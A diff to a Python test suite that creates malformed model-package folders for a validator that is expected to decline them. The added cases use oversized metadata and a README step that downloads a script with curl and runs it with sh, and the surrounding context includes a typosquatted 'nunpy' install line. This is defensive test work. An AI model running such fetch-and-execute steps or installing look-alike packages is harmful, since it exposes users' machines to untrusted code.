@@ -24,6 +24,16 @@ def _metadata(pattern: str, put: str) -> Break:
     return breaks
 
 
+def _too_much(pattern: str, put: str) -> Break:
+    """No readme can be made of it."""
+
+    def breaks(folder: Path) -> None:
+        file = folder / "metadata.toml"
+        file.write_text(re.sub(pattern, put, file.read_text(encoding="utf-8"), flags=re.MULTILINE), encoding="utf-8")
+
+    return breaks
+
+
 def _wrote(name: str, text: str) -> Callable[[Path], None]:
     return lambda folder: (folder / name).write_text(text, encoding="utf-8") and None
 
@@ -50,6 +60,12 @@ for name, what, check, answer, breaks in (
      _metadata("^read = .*$", 'read = "file:../metrics.json#top1"')),
     ("page-that-installs", "a text that tells to install a package that is nearly one", "artifacts.requirements", "decline",
      _wrote("INSTALL.txt", "Install\n\n    pip install onnxruntime nunpy\n")),
+    ("too-many-tags", "500 tags", "artifacts.metadata", "decline",
+     _too_much("^tags = .*$", "tags = [" + ", ".join(f'"digits{number}"' for number in range(500)) + "]")),
+    ("description-without-end", "a description of 100,000 letters", "artifacts.metadata", "decline",
+     _too_much("^description = .*$", f'description = "{"Reads a digit. " * 7000}"')),
+    ("readme-runs-download", "a readme that keeps what an address gives, and runs it", "artifacts.requirements", "decline",
+     _in_readme("\n## Setup\n\n```sh\ncurl -o setup.sh https://example.com/s\nsh setup.sh\n```\n")),
     ("words-that-install", "the same in a sentence", "artifacts.requirements", PERSON,
      _wrote("notes.txt", "First pip install left-pad.\n")),
     ("readme-loads-code", "a readme that loads code of another repository", "artifacts.requirements", "decline",
